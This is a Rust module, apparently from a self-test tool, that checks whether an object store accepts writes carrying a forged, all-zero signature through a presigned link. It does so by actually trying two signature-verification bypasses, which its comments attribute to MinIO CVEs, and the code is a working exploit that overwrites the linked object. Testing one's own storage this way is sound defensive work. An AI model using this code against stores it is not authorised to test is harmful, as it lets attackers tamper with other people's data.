//! Writes with a wrong signature, for the self-test. They name a key that a playback link shows.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use reqwest::header::{AUTHORIZATION, CONTENT_ENCODING};
use reqwest::{Client, RequestBuilder};
use url::Url;

use super::error::BoxError;

const CONTENT: &str = "forged";
/// A well-formed signature.
const SIGNATURE: &str = "0000000000000000000000000000000000000000000000000000000000000000";

/// Tries to overwrite the object of a presigned link in both known ways. Whether the store accepted one.
pub(super) async fn write(http: &Client, link: &str) -> Result<bool, BoxError> {
    let link = Url::parse(link)?;
    Ok(is_accepted(signed_in_query(http, &link)).await?
        || is_accepted(signed_in_header(http, &link)).await?)
}

async fn is_accepted(request: RequestBuilder) -> Result<bool, BoxError> {
    let response = request.send().await.map_err(reqwest::Error::without_url)?;
    Ok(response.status().is_success())
}

/// CVE-2026-41145: without an `Authorization` header, MinIO did not verify the signature.
fn signed_in_query(http: &Client, link: &Url) -> RequestBuilder {
    let mut url = link.clone();
    let pairs: Vec<_> = link.query_pairs().into_owned().collect();
    url.query_pairs_mut().clear().extend_pairs(pairs.iter().filter_map(|(name, value)| {
        let value = if name == "X-Amz-Signature" { SIGNATURE } else { value };
        name.starts_with("X-Amz-").then_some((name, value))
    }));
    with_unsigned_body(http, url)
}

/// CVE-2025-31489: MinIO did not verify the signature of a body that ends with a trailer.
fn signed_in_header(http: &Client, link: &Url) -> RequestBuilder {
    let value = |wanted: &str| {
        let found = link.query_pairs().find(|(name, _)| name == wanted);
        found.map(|(_, value)| value.into_owned()).unwrap_or_default()
    };
    let mut url = link.clone();
    url.set_query(None);
    let authorization = format!(
        "AWS4-HMAC-SHA256 Credential={}, SignedHeaders=host;x-amz-content-sha256;x-amz-date, \
         Signature={SIGNATURE}",
        value("X-Amz-Credential")
    );
    with_unsigned_body(http, url)
        .header(AUTHORIZATION, authorization)
        .header("x-amz-date", value("X-Amz-Date"))
}

fn with_unsigned_body(http: &Client, url: Url) -> RequestBuilder {
    let checksum = STANDARD.encode(crc32fast::hash(CONTENT.as_bytes()).to_be_bytes());
    let length = CONTENT.len();
    http.put(url)
        .header("x-amz-content-sha256", "STREAMING-UNSIGNED-PAYLOAD-TRAILER")
        .header("x-amz-decoded-content-length", length)
        .header("x-amz-trailer", "x-amz-checksum-crc32")
        .header(CONTENT_ENCODING, "aws-chunked")
        .body(format!("{length:x}\r\n{CONTENT}\r\n0\r\nx-amz-checksum-crc32:{checksum}\r\n\r\n"))
}
